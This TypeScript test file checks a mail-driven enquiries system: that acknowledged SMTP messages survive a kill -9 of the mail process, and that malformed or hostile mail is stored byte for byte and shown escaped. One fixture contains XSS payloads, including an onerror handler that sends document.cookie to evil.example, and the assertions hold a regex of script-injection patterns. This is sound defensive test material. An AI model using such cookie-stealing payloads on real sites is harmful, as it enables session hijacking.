/**
 * Faults and bad input on the enquiries mailbox (issue "Email enquiries", Faults and bad input),
 * through the real SMTP receiver. A `dossier serve --only mail --only scheduler` process is killed
 * with SIGKILL while about a thousand enquiries arrive from several connections, and restarted:
 * every message it acknowledged with 250 must be stored once and become (part of) an enquiry.
 * Malformed MIME, an unknown charset, 8-bit headers, HTML with scripts and a spoofed From are
 * stored byte for byte, read as text, and shown on the officer's page without anything to run.
 *
 * A message delivered twice with the same Message-ID is stored once: test/mail/smtp-receiver.test.ts
 * ("the same Message-ID delivered twice to a mailbox…") and test/enquiries/receive-enquiry-mail.test.ts
 * ("the same Message-ID delivered twice is stored once") prove it through SMTP; here it is proved
 * again only where it matters after a crash, for the messages a sender resends after losing its 250.
 */
import assert from "node:assert/strict";
import { type ChildProcess, spawn } from "node:child_process";
import { createHash, randomUUID } from "node:crypto";
import { createServer } from "node:net";
import { after, afterEach, before, test } from "node:test";
import { eq, sql } from "drizzle-orm";
import { createTransport } from "nodemailer";
import { verifyAuditChain } from "../../src/audit/verify-audit-chain.ts";
import { processInboundMail } from "../../src/correspondence/process-inbound-message.ts";
import { queryRows } from "../../src/db/database.ts";
import { blobs, enquiries, enquiryMessages, inboundMessages } from "../../src/db/schema.ts";
import { type SmtpListener, startSmtpReceiver } from "../../src/mail/smtp-receiver.ts";
import { configFromEnv } from "../../src/server/config.ts";
import { createApp } from "../../src/web/app.ts";
import { openTestDatabase, type TestDatabase } from "../support/database.ts";
import { seedTwoOffices } from "../support/fixtures.ts";
import { Agent } from "../web/agent.ts";

const SKIP_PROCESSES = process.env.TEST_DATABASE_URL
  ? false
  : "needs a PostgreSQL server shared by the test and the mail process it kills: set TEST_DATABASE_URL";
if (SKIP_PROCESSES) console.log(`# kill -9 during ingestion skipped: ${SKIP_PROCESSES}`);

const MAILBOX = "ott@dossier.test";
const MESSAGES = 1000;
const CONNECTIONS = 8;
const KILL_AFTER = 300;

let database: TestDatabase;
const children = new Set<ChildProcess>();

before(async () => {
  database = await openTestDatabase();
  await seedTwoOffices(database.db);
});

// A mail process outliving its test would keep storing mail and keep the database from being dropped.
const killChildren = () => Promise.all([...children].map((child) => stopChild(child, "SIGKILL")));
afterEach(killChildren);
after(async () => {
  await killChildren();
  await database?.close();
});

interface MailProcess {
  child: ChildProcess;
  output: () => string;
  /** Resolves when the process says its receiver is listening. */
  ready: Promise<void>;
}

/** `dossier serve --only mail --only scheduler` as its own OS process on the test's database. */
function startMailProcess(smtpPort: number): MailProcess {
  const child = spawn(
    process.execPath,
    ["bin/dossier.js", "serve", "--only", "mail", "--only", "scheduler"],
    {
      env: {
        ...process.env,
        DATABASE_URL: database.url!,
        DOSSIER_DB_POOL: "10",
        HOST: "127.0.0.1",
        SMTP_PORT: String(smtpPort),
      },
      stdio: ["ignore", "pipe", "pipe"],
    },
  );
  children.add(child);
  child.once("exit", () => children.delete(child));
  let output = "";
  child.stdout!.on("data", (chunk) => (output += chunk));
  child.stderr!.on("data", (chunk) => (output += chunk));
  const ready = new Promise<void>((resolve, reject) => {
    child.stdout!.on("data", () => {
      if (/^mail /m.test(output)) resolve();
    });
    child.once("exit", (code, signal) =>
      reject(new Error(`mail process ended (${code ?? signal}) before listening:\n${output}`)),
    );
  });
  ready.catch(() => undefined);
  return { child, output: () => output, ready };
}

function running(child: ChildProcess): boolean {
  return child.exitCode === null && child.signalCode === null;
}

/** Sends `signal` and waits for the exit; a process still there 10 s after a SIGTERM is killed. */
function stopChild(child: ChildProcess, signal: NodeJS.Signals): Promise<void> {
  if (!running(child)) return Promise.resolve();
  return new Promise((resolve) => {
    const timer = setTimeout(() => child.kill("SIGKILL"), 10_000);
    child.once("exit", () => {
      clearTimeout(timer);
      resolve();
    });
    child.kill(signal);
  });
}

/** A port nothing listens on now, so a restarted receiver can take the same one, as an MX keeps its address. */
function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      const port = typeof address === "object" && address ? address.port : 0;
      server.close(() => resolve(port));
    });
  });
}

/** Waits until `check` holds, asking every `everyMs`; fails with `what` after `timeoutMs`. */
async function waitFor(
  what: () => string,
  check: () => Promise<boolean> | boolean,
  timeoutMs: number,
  everyMs = 250,
): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what()}`);
    await new Promise((resolve) => setTimeout(resolve, everyMs));
  }
}

function sha256(bytes: Uint8Array): string {
  return createHash("sha256").update(bytes).digest("hex");
}

interface Outgoing {
  messageId: string;
  envelopeFrom: string;
  raw: Buffer;
}

/**
 * The i-th enquiry of the run: each from its own enquirer, in English; one in ten answers the
 * enquiry its connection sent before (In-Reply-To), so it joins that one instead of opening one.
 */
function enquiryMail(i: number, messageIds: readonly string[]): Outgoing {
  const messageId = messageIds[i]!;
  const envelopeFrom = `enquirer.${i}@mail.example`;
  const answered = i % 10 === 9 && i >= CONNECTIONS ? messageIds[i - CONNECTIONS] : undefined;
  const raw = Buffer.from(
    [
      `From: Enquirer ${i} <${envelopeFrom}>`,
      `To: OTT office <${MAILBOX}>`,
      `Subject: ${answered ? "RE: " : ""}Application status ${i}`,
      `Message-ID: ${messageId}`,
      ...(answered ? [`In-Reply-To: ${answered}`, `References: ${answered}`] : []),
      "Date: Mon, 02 Mar 2026 10:15:00 -0500",
      "MIME-Version: 1.0",
      "Content-Type: text/plain; charset=utf-8",
      "",
      "Hello,",
      "",
      `I am the applicant and I am still waiting for my study permit application (enquiry ${i}).`,
      "",
      `Enquirer ${i}`,
      "",
    ].join("\r\n"),
  );
  return { messageId, envelopeFrom, raw };
}

type Answer = { ok: true; response: string } | { ok: false; error: string };

/** One SMTP transaction on its own connection, as a sending MTA makes it. */
async function send(port: number, message: Outgoing): Promise<Answer> {
  const client = createTransport({
    host: "127.0.0.1",
    port,
    secure: false,
    ignoreTLS: true,
    connectionTimeout: 3_000,
    greetingTimeout: 3_000,
    socketTimeout: 10_000,
  });
  try {
    const info = await client.sendMail({
      envelope: { from: message.envelopeFrom, to: [MAILBOX] },
      raw: message.raw,
    });
    return /^250 /.test(info.response)
      ? { ok: true, response: info.response }
      : { ok: false, error: info.response };
  } catch (error) {
    return { ok: false, error: (error as Error).message };
  } finally {
    client.close();
  }
}

/** Sends `messages` over `CONNECTIONS` concurrent connections, each in order; `onAnswer` sees every answer. */
async function sendAll(
  port: number,
  messages: readonly Outgoing[],
  onAnswer: (message: Outgoing, answer: Answer) => void,
): Promise<void> {
  await Promise.all(
    Array.from({ length: CONNECTIONS }, async (_, lane) => {
      for (let i = lane; i < messages.length; i += CONNECTIONS) {
        const message = messages[i]!;
        onAnswer(message, await send(port, message));
      }
    }),
  );
}

test("kill -9 of the mail process while 1,000 enquiries arrive: every message acknowledged with 250 is stored once and becomes or joins an enquiry", {
  skip: SKIP_PROCESSES,
}, async () => {
  const messageIds = Array.from({ length: MESSAGES }, () => `<${randomUUID()}@mail.example>`);
  const outgoing = messageIds.map((_, i) => enquiryMail(i, messageIds));
  const port = await freePort();
  const started = performance.now();

  /** Messages of the run stored in the mailbox, and how many of them wait to be processed. */
  const pending = async () => {
    const [row] = await queryRows<{ stored: number; unprocessed: number }>(
      database.db,
      sql`select count(*)::int as stored, count(*) filter (where processed_at is null)::int as unprocessed
            from inbound_messages where mailbox = ${MAILBOX}`,
    );
    return row!;
  };
  let server = startMailProcess(port);
  await server.ready;
  const acknowledged = new Set<string>();
  const refused = new Map<string, string>();
  let acknowledgedAtKill = -1;
  let kill: Promise<void> | undefined;
  await sendAll(port, outgoing, (message, answer) => {
    if (answer.ok) acknowledged.add(message.messageId);
    else refused.set(message.messageId, answer.error);
    if (!kill && acknowledged.size >= KILL_AFTER) {
      acknowledgedAtKill = acknowledged.size;
      kill = stopChild(server.child, "SIGKILL");
    }
  });
  await kill;
  assert.ok(kill, "the process was killed during the run");
  const acknowledgedBeforeRestart = acknowledged.size;
  const atKill = await pending();
  const storedAtKill = await database.db
    .select({ messageId: inboundMessages.messageId })
    .from(inboundMessages)
    .where(eq(inboundMessages.mailbox, MAILBOX));
  const storedIds = new Set(storedAtKill.map((row) => row.messageId));
  assert.deepEqual(
    [...acknowledged].filter((id) => !storedIds.has(id)),
    [],
    "every 250 the killed process gave was for a message already committed",
  );
  assert.ok(refused.size > 0, "messages sent after the kill were not acknowledged");
  for (const id of refused.keys()) assert.ok(!acknowledged.has(id));

  // A sending MTA keeps what got no 250 in its queue and tries again once the MX answers.
  server = startMailProcess(port);
  await server.ready;
  const toResend = outgoing.filter((message) => refused.has(message.messageId));
  const resendAnswers = new Map<string, Answer>();
  await sendAll(port, toResend, (message, answer) => resendAnswers.set(message.messageId, answer));
  const stillRefused = [...resendAnswers].filter(([, answer]) => !answer.ok);
  assert.deepEqual(stillRefused, [], "the restarted receiver acknowledges every resent message");
  const alreadyStored = [...resendAnswers.values()].filter(
    (answer) => answer.ok && /already stored/.test(answer.response),
  ).length;

  // What the killed process stored but had not processed is taken up by the scheduled job.
  await waitFor(
    () => `every message processed:\n${server.output()}`,
    async () => {
      assert.ok(running(server.child), `the mail process ended:\n${server.output()}`);
      const { stored, unprocessed } = await pending();
      return stored >= MESSAGES && unprocessed === 0;
    },
    90_000,
  );
  const seconds = (performance.now() - started) / 1000;
  await stopChild(server.child, "SIGTERM");

  const stored = await database.db
    .select({
      messageId: inboundMessages.messageId,
      sha256: inboundMessages.sha256,
      classification: inboundMessages.classification,
      note: inboundMessages.processingNote,
    })
    .from(inboundMessages)
    .where(eq(inboundMessages.mailbox, MAILBOX));
  const storedTimes = new Map<string, number>();
  for (const row of stored)
    storedTimes.set(row.messageId ?? "(none)", (storedTimes.get(row.messageId ?? "(none)") ?? 0) + 1);
  assert.deepEqual(
    [...storedTimes].filter(([, times]) => times > 1),
    [],
    "no Message-ID is stored twice, not even those resent",
  );
  assert.deepEqual(
    [...acknowledged].filter((id) => !storedTimes.has(id)),
    [],
    "every message acknowledged before the kill is stored",
  );
  assert.equal(
    stored.length,
    MESSAGES,
    "every message is stored, once acknowledged by one process or the other",
  );

  const sent = new Map(outgoing.map((message) => [message.messageId, message]));
  for (const row of stored) {
    const message = sent.get(row.messageId ?? "");
    assert.ok(message, `${row.messageId} is a message of the run`);
    assert.equal(row.sha256, sha256(message.raw), `${row.messageId} is kept byte for byte`);
    assert.equal(row.classification, "other", `${row.messageId} is read as mail a person wrote`);
  }
  const [blobCheck] = await queryRows<{ bad: number }>(
    database.db,
    sql`select count(*)::int as bad from inbound_messages i join blobs b on b.sha256 = i.sha256
          where i.mailbox = ${MAILBOX} and encode(sha256(b.content), 'hex') <> i.sha256`,
  );
  assert.equal(blobCheck!.bad, 0, "each stored blob reaches its SHA-256");

  const onThreads = await queryRows<{ message_id: string; n: number }>(
    database.db,
    sql`select message_id, count(*)::int as n from enquiry_messages
          where direction = 'in' and message_id is not null group by message_id`,
  );
  const threadTimes = new Map(onThreads.map((row) => [row.message_id, row.n]));
  assert.deepEqual(
    messageIds.filter((id) => threadTimes.get(id) !== 1),
    [],
    "every message is on exactly one enquiry's thread",
  );
  const opened = stored.filter((row) => /^New enquiry /.test(row.note ?? "")).length;
  const joined = stored.filter((row) => /^Added to enquiry /.test(row.note ?? "")).length;
  assert.equal(opened + joined, MESSAGES, "each message opened an enquiry or joined one");
  const [enquiryCount] = await database.db.select({ n: sql<number>`count(*)::int` }).from(enquiries);
  assert.equal(enquiryCount!.n, opened);

  const chain = await verifyAuditChain(database.db);
  assert.ok(chain.intact, `audit chain intact: ${JSON.stringify(chain)}`);

  console.log(
    `kill -9 during ingestion of ${MESSAGES} enquiries over ${CONNECTIONS} connections: killed after ${acknowledgedAtKill} acknowledged; ` +
      `${atKill.stored} stored by the killed process, ${atKill.unprocessed} of them not yet processed; ` +
      `${acknowledgedBeforeRestart} acknowledged before the restart, ${refused.size} not acknowledged and resent ` +
      `(${alreadyStored} of them answered "already stored": stored before the kill, their 250 lost); ` +
      `${stored.length} stored, ${opened} enquiries opened, ${joined} joined one; ${seconds.toFixed(1)} s`,
  );
});

/** Delivers raw bytes to an in-process receiver as an MTA would, and answers with the server's reply. */
async function deliverRaw(port: number, raw: Buffer, envelopeFrom: string): Promise<string> {
  const client = createTransport({ host: "127.0.0.1", port, secure: false, ignoreTLS: true });
  try {
    const info = await client.sendMail({ envelope: { from: envelopeFrom, to: [MAILBOX] }, raw });
    return info.response;
  } finally {
    client.close();
  }
}

function headerLines(lines: string[]): Buffer {
  return Buffer.from(lines.join("\r\n"));
}

/**
 * What test/enquiries/receive-enquiry-mail.test.ts does not cover already: boundaries that do not
 * match, a single-part body in `x-unknown-2026`, raw UTF-8 in the From header, `onerror=` and
 * `javascript:` in HTML-only mail with a script in its subject, a From that is not the envelope
 * sender, and the officer's page for each.
 */
function badInput(): { name: string; envelopeFrom: string; raw: Buffer; messageId: string }[] {
  const id = () => `<${randomUUID()}@bad.example>`;
  const brokenBoundaries = id();
  const unknownCharset = id();
  const eightBit = id();
  const html = id();
  const spoofed = id();
  return [
    {
      name: "broken boundaries",
      envelopeFrom: "omar.haddad@mail.example",
      messageId: brokenBoundaries,
      raw: headerLines([
        "From: Omar Haddad <omar.haddad@mail.example>",
        `To: ${MAILBOX}`,
        "Subject: Study permit",
        `Message-ID: ${brokenBoundaries}`,
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="outer"',
        "",
        "--outer",
        'Content-Type: multipart/alternative; boundary="inner"',
        "",
        "--inner",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Hello, I am the applicant and I am still waiting for my study permit.",
        "--inne",
        "Content-Type: text/html",
        "",
        "<p>half a part",
        "--outer--",
        "--inner--",
        "--wrong",
        "Content-Type: application/pdf",
        "Content-Transfer-Encoding: base64",
        "",
        "JVBERi0xLjQK%%%%",
        "",
      ]),
    },
    {
      name: "unknown charset",
      envelopeFrom: "mireille@courriel.example",
      messageId: unknownCharset,
      raw: Buffer.concat([
        headerLines([
          "From: Mireille Roy <mireille@courriel.example>",
          `To: ${MAILBOX}`,
          "Subject: Ma demande",
          `Message-ID: ${unknownCharset}`,
          "MIME-Version: 1.0",
          "Content-Type: text/plain; charset=x-unknown-2026",
          "Content-Transfer-Encoding: 8bit",
          "",
          "Bonjour, je voudrais savoir o",
        ]),
        Buffer.from([0xf9]),
        Buffer.from(" en est ma demande de permis d'", "latin1"),
        Buffer.from([0xe9]),
        Buffer.from("tudes.\r\n"),
      ]),
    },
    {
      name: "8-bit headers",
      envelopeFrom: "zoe@courriel.example",
      messageId: eightBit,
      raw: Buffer.concat([
        // Raw UTF-8 in From and raw Latin-1 in Subject, neither encoded as RFC 2047 asks.
        Buffer.from("From: Zoé Lefèvre <zoe@courriel.example>\r\n", "utf8"),
        Buffer.from(`To: ${MAILBOX}\r\nSubject: R`),
        Buffer.from([0xe9]),
        Buffer.from("ponse attendue\r\n"),
        headerLines([
          `Message-ID: ${eightBit}`,
          "MIME-Version: 1.0",
          "Content-Type: text/plain; charset=utf-8",
          "",
          "Bonjour, je suis la demandeuse et j'attends toujours une réponse.",
          "",
        ]),
      ]),
    },
    {
      name: "HTML with scripts",
      envelopeFrom: "ana.lima@mail.example",
      messageId: html,
      raw: headerLines([
        `From: "<img src=x onerror=alert(1)>" <ana.lima@mail.example>`,
        `To: ${MAILBOX}`,
        "Subject: <script>alert('subject')</script> My file",
        `Message-ID: ${html}`,
        "MIME-Version: 1.0",
        "Content-Type: text/html; charset=utf-8",
        "",
        '<html><body onload="steal()"><p>Hello, I am the applicant and I am still waiting.</p>',
        '<img src="x" onerror="fetch(\'https://evil.example/?\'+document.cookie)">',
        '<a href="javascript:alert(1)">click</a><svg onload="alert(2)"></svg>',
        '<iframe src="https://evil.example/"></iframe><script>alert(3)</script></body></html>',
        "",
      ]),
    },
    {
      name: "spoofed From",
      // The envelope sender is someone else; the From header names the applicant's address on file.
      envelopeFrom: "bounce@spoofer.example",
      messageId: spoofed,
      raw: headerLines([
        "From: Thi Anh Nguyen <anh.nguyen@example.com>",
        `To: ${MAILBOX}`,
        "Subject: Please send my file to my new address",
        `Message-ID: ${spoofed}`,
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Hello, I am the applicant. Please send everything on my file to this address.",
        "",
      ]),
    },
  ];
}

/** The thread section of an enquiry page, where the sender's words are shown. */
function threadSection(html: string): string {
  const section = /<section id="thread"[\s\S]*?<\/section>/.exec(html)?.[0];
  assert.ok(section, "the page shows the thread");
  return section;
}

test("malformed MIME, an unknown charset, 8-bit headers, HTML with scripts and a spoofed From: stored byte for byte, each an enquiry, shown as text on the officer's page", async () => {
  let receiver: SmtpListener | undefined;
  try {
    receiver = await startSmtpReceiver({ db: database.db, host: "127.0.0.1", port: 0 });
    const cases = badInput();
    for (const item of cases) {
      assert.match(await deliverRaw(receiver.port, item.raw, item.envelopeFrom), /^250 /, item.name);
    }
    const pass = await processInboundMail(database.db);
    assert.deepEqual(
      { retry: pass.retry, givenUp: pass.givenUp },
      { retry: 0, givenUp: 0 },
      "no message made processing fail",
    );
    // The receiver still takes mail after all of them.
    const after = `<${randomUUID()}@bad.example>`;
    assert.match(
      await deliverRaw(
        receiver.port,
        headerLines([`From: x@mail.example`, `To: ${MAILBOX}`, `Message-ID: ${after}`, "", "Hello", ""]),
        "x@mail.example",
      ),
      /^250 /,
    );

    const agent = new Agent(createApp({ database, config: configFromEnv({}) }));
    await agent.signIn("ana@dossier.test");
    for (const item of cases) {
      const [inbound] = await database.db
        .select()
        .from(inboundMessages)
        .where(eq(inboundMessages.messageId, item.messageId));
      assert.ok(inbound, `${item.name}: stored`);
      assert.ok(inbound.processedAt, `${item.name}: processed`);
      assert.equal(inbound.sha256, sha256(item.raw), `${item.name}: the SHA-256 of the bytes sent`);
      const [blob] = await database.db.select().from(blobs).where(eq(blobs.sha256, inbound.sha256));
      assert.ok(Buffer.from(blob!.content).equals(item.raw), `${item.name}: kept byte for byte`);
      assert.equal(inbound.envelopeFrom, item.envelopeFrom, `${item.name}: the envelope sender is recorded`);

      const [row] = await database.db
        .select({ enquiry: enquiries, message: enquiryMessages })
        .from(enquiryMessages)
        .innerJoin(enquiries, eq(enquiries.id, enquiryMessages.enquiryId))
        .where(eq(enquiryMessages.inboundMessageId, inbound.id));
      assert.ok(row, `${item.name}: became an enquiry (${inbound.processingNote})`);
      const { enquiry, message } = row;
      // The body is read as text; subject and From stay the sender's own words, escaped when shown.
      assert.doesNotMatch(
        message.bodyText,
        /onerror|onload|javascript:|<iframe|<svg|<img|<script|alert\(|document\.cookie/i,
        `${item.name}: the stored body text holds no markup to run`,
      );

      const page = await agent.page(`/enquiries/${enquiry.reference}?lang=en`);
      assert.equal(page.status, 200, `${item.name}: the officer's page opens`);
      for (const tag of page.html.match(/<script[^>]*>/g) ?? []) {
        assert.equal(
          tag,
          '<script type="module" src="/assets/gcds/gcds.esm.js">',
          `${item.name}: only the page's own script`,
        );
      }
      const thread = threadSection(page.html);
      assert.doesNotMatch(
        thread,
        /<script|<img|<iframe|<svg|<a href="javascript/i,
        `${item.name}: no element from the mail`,
      );
      assert.doesNotMatch(thread, /<[^>]*\son[a-z]+\s*=/i, `${item.name}: no event-handler attribute`);
      assert.doesNotMatch(thread, /<[^>]*javascript:/i);

      if (item.name === "broken boundaries") {
        assert.match(message.bodyText, /I am the applicant and I am still waiting for my study permit/);
      }
      if (item.name === "unknown charset") {
        assert.match(message.bodyText, /je voudrais savoir o.+ en est ma demande/);
        assert.equal(enquiry.language, "fr");
      }
      if (item.name === "8-bit headers") {
        assert.equal(message.fromAddress, "zoe@courriel.example");
        assert.match(message.fromText, /Zoé Lefèvre/);
        assert.match(message.subject, /^R.+ponse attendue$/);
        assert.match(thread, /Zoé Lefèvre/);
      }
      if (item.name === "HTML with scripts") {
        assert.equal(message.textFromHtml, true);
        assert.match(message.bodyText, /Hello, I am the applicant and I am still waiting\./);
        // The subject's script is the sender's words: shown escaped, as text.
        assert.match(thread, /&lt;script&gt;alert\(&#39;subject&#39;\)&lt;\/script&gt; My file/);
        assert.match(thread, /&lt;img src=x onerror=alert\(1\)&gt;/, "the From line's markup too");
      }
      if (item.name === "spoofed From") {
        assert.match(message.fromText, /^"?Thi Anh Nguyen"? <anh\.nguyen@example\.com>$/, "the From header");
        assert.equal(inbound.envelopeFrom, "bounce@spoofer.example", "and the envelope sender beside it");
        // An answer goes to the address the From header names, never to the envelope sender, so a
        // forger who writes the applicant's address does not receive what is sent to the applicant.
        assert.equal(enquiry.enquirerAddress, "anh.nguyen@example.com");
        const replies = await database.db
          .select({ to: enquiryMessages.toAddresses })
          .from(enquiryMessages)
          .where(eq(enquiryMessages.enquiryId, enquiry.id));
        for (const reply of replies) assert.ok(!reply.to.includes("bounce@spoofer.example"));
        assert.match(thread, /Thi Anh Nguyen(&quot;)? &lt;anh\.nguyen@example\.com&gt;/);
      }
    }
  } finally {
    await receiver?.close();
  }
});
